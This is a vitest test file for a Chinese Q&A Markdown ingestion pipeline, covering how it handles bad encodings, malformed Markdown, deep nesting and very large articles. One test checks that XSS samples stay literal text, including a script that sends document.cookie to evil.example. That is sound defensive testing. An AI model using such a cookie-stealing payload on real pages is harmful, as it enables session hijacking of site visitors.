/**
 * Bad input (SPEC: "Bad input gets a clear error naming file and line, or is ingested faithfully;
 * it never breaks the build silently, never loses text, never injects markup or script").
 * Fixtures: tests/fixtures/bad-input/ (bytes made by generate.ts there); the 5 MB article is
 * generated at test time.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Root } from 'mdast';
import { toString } from 'mdast-util-to-string';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { IngestError } from '../../scripts/ingest/errors.ts';
import { ingest, type IngestOutput } from '../../scripts/ingest/pipeline.ts';
import { mdxParser } from '../../scripts/ingest/serialize.ts';
import { LONG_HAN_RUN, MAX_NESTING } from '../../scripts/ingest/validate.ts';
import { BAD_INPUT } from '../fixtures/bad-input/generate.ts';
import { bigArticle } from './support/big-article.ts';
import { looseArticle } from './support/loose-articles.ts';
import { articleProse, BAD_INPUT_DIR, catchIngestError, entryBody, ingestText, source, splitFrontmatter } from './support/ingest.ts';

const fixture = (name: string) => ({ file: name, bytes: new Uint8Array(readFileSync(join(BAD_INPUT_DIR, name))) });
const ingestFixture = (name: string): IngestOutput => ingest({ sources: [fixture(name)] });
const failFixture = (name: string) => catchIngestError(() => ingestFixture(name));
/** 1-based line of the first line of a fixture (decoded as UTF-8, CRLF-agnostic) that satisfies `test`. */
const lineWhere = (name: string, test: (line: string) => boolean): number =>
  readFileSync(join(BAD_INPUT_DIR, name), 'utf8')
    .split('\n')
    .findIndex((l) => test(l.replace(/\r$/u, ''))) + 1;

const textOf = (mdx: string): string => toString(mdxParser.parse(mdx)).replace(/\s+/gu, ' ');
const allText = (out: IngestOutput): string =>
  [...out.files]
    .filter(([path]) => path.endsWith('.mdx'))
    .map(([, content]) => textOf(splitFrontmatter(content).body))
    .join('\n');

describe('the committed fixtures are the bytes generate.ts makes (no editor or git normalisation)', () => {
  it.each(Object.keys(BAD_INPUT))('%s', (name) => {
    expect(Buffer.from(readFileSync(join(BAD_INPUT_DIR, name))).equals(Buffer.from(BAD_INPUT[name]!))).toBe(true);
  });

  it('and they have the properties the tests rely on', () => {
    expect(BAD_INPUT['empty.txt']!.length).toBe(0);
    expect([...BAD_INPUT['bom.txt']!.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(Buffer.from(BAD_INPUT['crlf.txt']!).toString('utf8').match(/\r\n/gu)?.length).toBe(14);
    expect(Buffer.from(BAD_INPUT['crlf.txt']!).toString('utf8').replace(/\r\n/gu, '')).not.toMatch(/[\r\n]/u);
    expect(BAD_INPUT['binary.txt']!.includes(0)).toBe(true);
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(BAD_INPUT['gbk.txt'])).toThrow();
  });
});

describe('refused with file and line', () => {
  it('an empty file', () => {
    const error = failFixture('empty.txt');
    expect(error.message).toBe('empty.txt:1: 文件是空的');
  });

  it('a file of whitespace only (spaces, tabs, an ideographic space)', () => {
    const error = failFixture('whitespace-only.txt');
    expect(error.message).toBe('whitespace-only.txt:1: 文件里只有空白字符');
  });

  it('a binary file: the line of the first NUL byte', () => {
    // Three lines of text, then a PNG header whose own CR LF and LF put its first NUL on line 6.
    const bytes = BAD_INPUT['binary.txt']!;
    const firstNul = bytes.indexOf(0);
    const line = bytes.slice(0, firstNul).filter((b) => b === 0x0a).length + 1;
    expect(line).toBe(6);
    const error = failFixture('binary.txt');
    expect(error.file).toBe('binary.txt');
    expect(error.line).toBe(6);
    expect(error.message).toMatch(/^binary\.txt:6: 二进制文件/u);
  });

  it('a GBK-encoded file: the line of the first byte that is not UTF-8, with the fix', () => {
    // Lines 1–2 are ASCII; line 3 starts the GBK text (whose first two characters even pass as UTF-8).
    const error = failFixture('gbk.txt');
    expect(error.file).toBe('gbk.txt');
    expect(error.line).toBe(3);
    expect(error.message).toContain('不是有效的 UTF-8');
    expect(error.message).toContain('iconv -f GBK -t UTF-8');
  });

  it('a file without any heading', () => {
    const error = failFixture('no-headings.txt');
    expect(error.message).toMatch(/^no-headings\.txt:1: 没有可以拆分成条目的标题/u);
  });

  it("a file whose only heading is its title: that heading's line, and why", () => {
    const error = catchIngestError(() =>
      ingestText(['## 常见问题', '', '| 问题 | 回答 |', '| --- | --- |', '| 什么是蒸馏？ | 小模型学大模型。 |', ''].join('\n'), 'faq.txt'),
    );
    expect(error.line).toBe(1);
    expect(error.message).toMatch(/^faq\.txt:1: 文章唯一的标题被读作文章标题/u);
  });

  it('an unclosed code fence: the line of the opening fence', () => {
    const line = lineWhere('unclosed-fence.txt', (l) => l === '```python');
    expect(line).toBe(9);
    const error = failFixture('unclosed-fence.txt');
    expect(error.file).toBe('unclosed-fence.txt');
    expect(error.line).toBe(line);
    expect(error.message).toBe('unclosed-fence.txt:9: 代码块围栏 ``` 没有闭合；请补上一行 ``` 作为结束');
  });

  it('an unclosed $$ math block, which would swallow the following questions the same way', () => {
    const text = '### 1. 第一题\n\n$$\nx = 1\n\n### 2. 第二题\n\n答。\n';
    const error = catchIngestError(() => ingest({ sources: [source('math.txt', text)] }));
    expect(error.message).toBe('math.txt:3: 公式块 $$ 没有闭合；请补上一行 $$ 作为结束');
  });

  it('lists and block quotes nested deeper than MAX_NESTING: refused quickly, at the first line too deep', () => {
    const deepList = (depth: number) => Array.from({ length: depth }, (_, i) => `${'  '.repeat(i)}- 第 ${i + 1} 层`).join('\n');
    const started = performance.now();
    const listError = catchIngestError(() => ingest({ sources: [source('list.txt', `### 1. 列表\n\n${deepList(1000)}\n`)] }));
    // Line 1 is the heading, 2 is blank, list level n is on line n + 2.
    expect(listError.message).toMatch(new RegExp(`^list\\.txt:${MAX_NESTING + 3}: 列表或引用块在这里嵌套了约`, 'u'));
    const quoteError = catchIngestError(() =>
      ingest({ sources: [source('quote.txt', `### 1. 引用\n\n正文\n\n${'>'.repeat(1000)} 深\n\n${'> - '.repeat(1000)}\n`)] }),
    );
    expect(quoteError.message).toMatch(new RegExp(`^quote\\.txt:5: .*最多接受 ${MAX_NESTING} 层`, 'u'));
    expect(performance.now() - started, 'refused before the slow parse').toBeLessThan(2000);
  });

  it('nesting at exactly MAX_NESTING is ingested with every level kept', () => {
    const list = Array.from({ length: MAX_NESTING }, (_, i) => `${'  '.repeat(i)}- 层${i + 1}`).join('\n');
    const out = ingest({ sources: [source('ok.txt', `### 1. 列表\n\n${list}\n\n### 2. 引用\n\n${'>'.repeat(MAX_NESTING)} 最深\n`)] });
    const body = allText(out);
    for (const level of [1, 64, MAX_NESTING]) expect(body).toContain(`层${level}`);
    expect(body).toContain('最深');
  });

  it('a one-line $$…$$ formula is inline math, not an unclosed block', () => {
    const out = ingest({ sources: [source('m.txt', '### 1. 第一题\n\n$$E=mc^2$$\n\n### 2. 第二题\n\n答。\n')] });
    expect(out.entries).toHaveLength(2);
  });
});

describe('ingested faithfully', () => {
  it('a UTF-8 BOM: dropped, and the first line is still line 1', () => {
    const out = ingestFixture('bom.txt');
    expect(out.entries).toHaveLength(1);
    expect(out.entries[0]!.source).toEqual({
      file: 'bom.txt',
      heading: '1. 什么是带 BOM 的文件？',
      shown: '1. 什么是带 BOM 的文件？',
      index: 1,
      line: 1,
    });
    expect(out.entries[0]!.title).toBe('什么是带 BOM 的文件？');
    for (const content of out.files.values()) expect(content).not.toContain('\uFEFF');
    expect(allText(out)).toContain('文件开头有 U+FEFF 字节顺序标记。');
  });

  it('UTF-16 with its byte-order mark (Windows Notepad 「Unicode」), either byte order, CRLF included', () => {
    const text =
      '\uFEFF#### 1. 什么是 UTF-16？\r\n\r\n记事本存成「Unicode」就是它。\r\n\r\n#### 2. 为什么要转？\r\n\r\n网页只用 UTF-8。\r\n';
    const le = new Uint8Array(Buffer.from(text, 'utf16le'));
    const be = new Uint8Array(le.length);
    for (let i = 0; i < le.length; i += 2) [be[i], be[i + 1]] = [le[i + 1]!, le[i]!];
    expect([...le.slice(0, 2)]).toEqual([0xff, 0xfe]);
    for (const bytes of [le, be]) {
      const out = ingest({ sources: [{ file: 'notepad.txt', bytes }] });
      expect(out.entries.map((e) => [e.title, e.source.line])).toEqual([
        ['什么是 UTF-16？', 1],
        ['为什么要转？', 5],
      ]);
      expect(allText(out)).toContain('记事本存成「Unicode」就是它。');
    }
    // Without its mark it is refused, and said to be UTF-16 rather than binary.
    const bare = new Uint8Array(Buffer.from(text.slice(1), 'utf16le'));
    const error = catchIngestError(() => ingest({ sources: [{ file: 'bare.txt', bytes: bare }] }));
    expect(error.message).toMatch(/^bare\.txt:1: 没有字节顺序标记（BOM）的 UTF-16 文本/u);
    // A stray NUL in UTF-8 text is no UTF-16, whatever its offset.
    const stray = new Uint8Array(Buffer.from('### 1. 问题\n\n正文\0二进制\n'));
    expect(stray.length % 2).toBe(0);
    expect(catchIngestError(() => ingest({ sources: [{ file: 'nul.txt', bytes: stray }] })).message).toMatch(/^nul\.txt:3: 二进制文件/u);
  });

  it('CRLF line endings: lines numbered as an editor shows them, no CR in the output, code intact', () => {
    const out = ingestFixture('crlf.txt');
    expect(out.entries.map((e) => [e.source.heading, e.source.line])).toEqual([
      ['1. 什么是 CRLF？', lineWhere('crlf.txt', (l) => l === '#### 1. 什么是 CRLF？')],
      ['2. 为什么要统一换行？', lineWhere('crlf.txt', (l) => l === '#### 2. 为什么要统一换行？')],
    ]);
    expect(out.entries.map((e) => e.source.line)).toEqual([3, 12]);
    expect(JSON.parse(out.files.get('articles.json')!)[0]).toMatchObject({ title: '标题：Windows 换行的文章', titleLine: 1 });
    for (const content of out.files.values()) expect(content).not.toContain('\r');
    const code: string[] = [];
    visit(mdxParser.parse(entryBody(out, 'crlf-q1')), 'code', (node) => void code.push(node.value));
    expect(code).toEqual(['# 注释不是标题\nprint("hi")']);
  });

  it('duplicate question numbers: both kept, distinct ids, a warning at the repeat naming the first', () => {
    const out = ingestFixture('duplicate-numbers.txt');
    expect(out.entries.map((e) => [e.id, e.title, e.source.line])).toEqual([
      ['duplicate-numbers-q1', '第一个问题？', 1],
      ['duplicate-numbers-q2', '第二个问题？', 5],
      ['duplicate-numbers-q2-2', '又一个第二题？', 9],
      ['duplicate-numbers-q3', '第三个问题？', 13],
    ]);
    expect(out.report.warnings).toEqual([
      { file: 'duplicate-numbers.txt', line: 9, message: '问题编号 2 重复（首次出现在第 5 行）；两条都保留，id 各不相同' },
    ]);
    expect(textOf(entryBody(out, 'duplicate-numbers-q2-2'))).toBe('答二之二。');
  });

  it('a numbered bold question inside an answer, where the questions are headings: kept in that answer, with a warning and the fix', () => {
    // Invented: the writer set three questions as headings and the fourth as a bold line.
    const text = [
      '## 1、大模型能排泊位计划吗？',
      '',
      '能排初稿。',
      '',
      '## 2. 数据不能出内网，怎么部署？',
      '',
      '私有化部署。',
      '',
      '**第3问：装箱方案为什么会算错？**',
      '',
      '它在预测下一个词。',
      '',
      '**注意：**以上仅供参考。',
      '',
    ].join('\n');
    const out = ingest({ sources: [source('port.txt', text)] });
    expect(out.entries.map((e) => e.title)).toEqual(['大模型能排泊位计划吗？', '数据不能出内网，怎么部署？']);
    expect(out.report.warnings).toEqual([
      { file: 'port.txt', line: 9, message: expect.stringMatching(/粗体行「第3问：.*请写成标题（## 第3问：/u) },
    ]);
    expect(textOf(entryBody(out, 'port-q2'))).toContain('它在预测下一个词。');
  });

  it('a very long run of Chinese without punctuation: kept whole, with a warning at its line', () => {
    const run = '汉'.repeat(LONG_HAN_RUN + 1);
    const out = ingest({ sources: [source('run.txt', `### 1. 问题\n\n短句，没问题。\n\n前缀${run}\n\n${'字'.repeat(LONG_HAN_RUN)}\n`)] });
    expect(out.report.warnings).toEqual([{ file: 'run.txt', line: 5, message: expect.stringMatching(/没有标点或空格/u) }]);
    expect(allText(out)).toContain(run);
  });

  it('<script>, <img onerror> and { } in prose: kept as literal text, never as markup or code', () => {
    const out = ingestFixture('script-and-braces.txt');
    const types = new Set<string>();
    for (const [path, content] of out.files) {
      if (!path.endsWith('.mdx')) continue;
      visit(mdxParser.parse(splitFrontmatter(content).body), (node) => void types.add(node.type));
    }
    for (const type of ['mdxjsEsm', 'mdxJsxFlowElement', 'mdxJsxTextElement', 'mdxFlowExpression', 'mdxTextExpression', 'html']) {
      expect(types).not.toContain(type);
    }
    const q1 = textOf(entryBody(out, 'script-and-braces-q1'));
    expect(q1).toContain('攻击者常写 <script>alert("x")</script> 或 <img src=x onerror=alert(1)> 来注入脚本。');
    expect(q1).toContain('<script> document.location = "https://evil.example/?c=" + document.cookie </script>');
    const q2 = textOf(entryBody(out, 'script-and-braces-q2'));
    expect(q2).toContain("字典 {'a': 1}，集合 {1, 2, 3}，单独的 { 和 } 也要原样保留。");
    expect(q2).toContain('export default {}');
  });

  it('HTML blocks around heading-like lines: the lines are read as Markdown; a comment, hidden in every viewer, is not published', () => {
    const text = '### 1. 第一题\n\n<pre>\n# 看起来像标题\n</pre>\n\n<!--\n## 2. 注释里的第二题\n-->\n';
    const out = ingest({ sources: [source('html.txt', text)] });
    const all = allText(out);
    for (const piece of ['<pre>', '</pre>']) expect(all).toContain(piece);
    expect(all).not.toMatch(/<!--|注释里的第二题/u);
    expect(articleProse(out, 'html').map((p) => p.data.heading)).toEqual([{ text: '看起来像标题', depth: 1, anchor: expect.any(String) }]);
    expect(out.entries.map((e) => [e.source.heading, e.source.line])).toEqual([['1. 第一题', 1]]);
    expect(out.report.warnings.map((w) => `${w.file}:${w.line}`)).toContain('html.txt:7');
  });

  it('$100 next to real math: prices stay text, formulas stay math', () => {
    const out = ingestFixture('dollar-and-math.txt');
    const tree: Root = mdxParser.parse(entryBody(out, 'dollar-and-math-q1'));
    const math: [string, string][] = [];
    visit(tree, (node) => {
      if (node.type === 'math' || node.type === 'inlineMath') math.push([node.type, node.value]);
    });
    expect(math).toEqual([
      ['inlineMath', 'C = 100T'],
      ['inlineMath', 'T'],
      ['math', 'C_{total} = \\sum_{i=1}^{n} p_i \\cdot t_i'],
    ]);
    const text = textOf(entryBody(out, 'dollar-and-math-q1'));
    expect(text).toContain('GPU 每小时 $100，训练 T 小时的总成本为');
    expect(text).toContain('小时，每小时 $100。');
    expect(text).toContain('原价 $5，折扣后 $3。');
  });

  it('a heading with only a number: named after its article and number, with a warning at its line', () => {
    const out = ingestFixture('number-only-heading.txt');
    const line = lineWhere('number-only-heading.txt', (l) => l === '### 7.');
    expect(line).toBe(7);
    const entry = out.entries.find((e) => e.source.index === 7)!;
    expect(entry).toMatchObject({
      id: 'number-only-heading-q7',
      title: '坏输入：只有编号的标题 第 7 题',
      source: { file: 'number-only-heading.txt', heading: '7.', index: 7, line },
    });
    expect(entry.questionSlug).toMatch(/^[a-z0-9-]+$/u);
    expect(textOf(entryBody(out, entry.id))).toBe('这一题的标题只有编号。');
    expect(out.report.warnings).toEqual([
      { file: 'number-only-heading.txt', line, message: '标题「7.」只有编号、没有题目；以文章标题加编号命名' },
    ]);
  });
});

describe('a 5 MB article', () => {
  it('ingests in linear time (< 60 s of CPU), every question an entry at its own line, code comments not headings', () => {
    const article = bigArticle();
    const bytes = new TextEncoder().encode(article.text);
    expect(bytes.length).toBeGreaterThanOrEqual(5 * 1024 * 1024);

    const cpu0 = process.cpuUsage();
    const started = performance.now();
    const out = ingest({ sources: [{ file: 'big.txt', bytes }] });
    const wall = (performance.now() - started) / 1000;
    const cpuUsed = process.cpuUsage(cpu0);
    const cpu = (cpuUsed.user + cpuUsed.system) / 1e6;
    console.log(`5 MB article (${bytes.length} bytes, ${article.questions} questions): ${wall.toFixed(1)} s wall, ${cpu.toFixed(1)} s CPU`);

    // CPU time, not wall time: other processes on a shared machine must not fail this test.
    expect(cpu).toBeLessThan(60);
    expect(out.entries).toHaveLength(article.questions);
    expect(out.entries.map((e) => e.source.line)).toEqual(article.headingLines);
    expect(out.entries.map((e) => e.source.index)).toEqual(Array.from({ length: article.questions }, (_, i) => i + 1));
    expect(out.report.warnings).toEqual([]);
  }, 240_000);
});

describe('loose Markdown assembled at random', () => {
  // Headings with inline code once failed the conservation check on a real article: ingestion's
  // own transforms must never lose text, whatever mix of pieces an article has.
  it('400 articles from seeded pieces: each is ingested (every unit conserved) or refused with file and line, never crashes', () => {
    const refused: string[] = [];
    for (let seed = 1; seed <= 400; seed++) {
      try {
        ingestText(looseArticle(seed), `loose-${seed}.md`);
      } catch (error) {
        if (!(error instanceof IngestError) || /摄取时丢失了文字/u.test(error.message))
          throw new Error(`seed ${seed}: ${String(error)}`, { cause: error });
        refused.push(error.message);
      }
    }
    // The pieces are all valid Markdown with questions: nothing should be refused.
    expect(refused).toEqual([]);
  });
});
